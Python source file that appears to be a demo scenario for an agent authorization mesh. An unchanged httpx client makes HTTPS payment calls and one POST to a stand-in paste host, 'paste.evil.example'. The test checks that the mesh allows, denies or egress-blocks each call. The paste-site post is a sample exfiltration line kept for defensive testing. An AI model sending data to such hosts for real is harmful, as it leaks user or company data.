"""HTTPS in the scenario: a client that knows nothing of the mesh but a proxy and a file of authorities."""

from __future__ import annotations

import json
import sys
from dataclasses import replace

from aegis_authz.demo.agent import Agent
from aegis_authz.demo.mesh import DemoMesh
from aegis_authz.demo.scenario import Row
from aegis_authz.encoding.narrowing import integer, mapping, number, text

_PROGRAM = """
import json, time
import httpx  # takes its proxy and its authorities from the environment, as it is installed

def call(method, url, **body):
    began = time.perf_counter()
    reply = client.request(method, url, **body)
    names = ("x-aegis-decision", "x-aegis-decision-id")
    facts = {name: reply.headers.get(name, "") for name in names}
    print(json.dumps({**facts, "status": reply.status_code, "ms": (time.perf_counter() - began) * 1000}))

with httpx.Client(timeout=30) as client:
    for amount in (4200, 50000):
        call("POST", "https://api.stripe.example/v1/payments", json={"amount": amount})
    call("POST", "https://paste.evil.example/", json={"data": "x"})
"""
_EXPECTED = (
    ("pay 4,200 over https", "allow", "ALLOWED"),
    ("pay 50,000 over https", "deny", "POLICY_DENIED"),
    ("post to an unlisted host over https", "deny", "EGRESS_DENIED"),
)


async def https_calls(mesh: DemoMesh, agent: Agent) -> list[Row]:
    """HTTPS of an unchanged client, opened, judged and refused where it can read why."""
    words = ("agent", "run", "--dir", str(mesh.state.resolve()), "--agent", "acme/emea/finance-agent", "--")
    mesh.tools.received.clear()
    lines = (await mesh.aegis(*words, sys.executable, "-c", _PROGRAM)).splitlines()
    rows = [_row(agent, line, *expected) for line, expected in zip(lines, _EXPECTED, strict=True)]
    bodies = {path: str(request["body"]) for path, request in mesh.tools.received.items()}
    return [*rows[:-1], replace(rows[-1], ok=rows[-1].ok and bodies == {"/v1/payments": '{"amount":4200}'})]


def _row(agent: Agent, line: str, call: str, decision: str, reason: str) -> Row:
    facts = mapping(json.loads(line), "a line of the client")
    decision_id = text(facts["x-aegis-decision-id"], "a decision id")
    record = agent.record(decision_id) or {}
    answer, recorded = text(facts["x-aegis-decision"], "a decision"), str(record.get("reason", ""))
    is_read = integer(facts["status"], "a status") in ((200, 201) if decision == "allow" else (403,))
    return Row(
        chapter="https",
        call=call,
        expected=f"{decision} {reason}",
        answer=answer,
        reason=recorded,
        ms=float(number(facts["ms"], "ms")),
        decision_id=decision_id,
        ok=(answer, recorded) == (decision, reason) and record.get("scheme") == "https" and is_read,
    )
